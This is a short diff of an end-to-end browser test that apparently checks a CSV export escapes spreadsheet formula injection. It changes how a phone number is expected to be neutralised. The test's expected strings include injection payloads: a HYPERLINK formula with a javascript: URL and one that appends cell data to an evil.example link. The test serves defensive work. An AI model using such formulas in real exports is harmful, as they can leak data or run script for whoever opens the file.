@@ -157,7 +157,7 @@ test('shows hostile words as words, everywhere', async ({ page, desk }) => {
   const csv = readFileSync(await (await download).path(), 'utf8');
   expect(csv).toContain(`"'=HYPERLINK(""javascript:alert(1)"",""Grace"")"`);
   expect(csv).toContain(`"'=HYPERLINK(""https://evil.example?""&A1,""Open me"")"`);
-  expect(csv).toContain("'+1 713 555 0199");
+  expect(csv).toContain(',\u00a0+1 713 555 0199,');
   expect(csv).toContain("'@SUM(1+1)");
   expect(csv).not.toMatch(/(^|[,\n\r])"?[=+@-]/);
   expect(seen).toEqual([]);
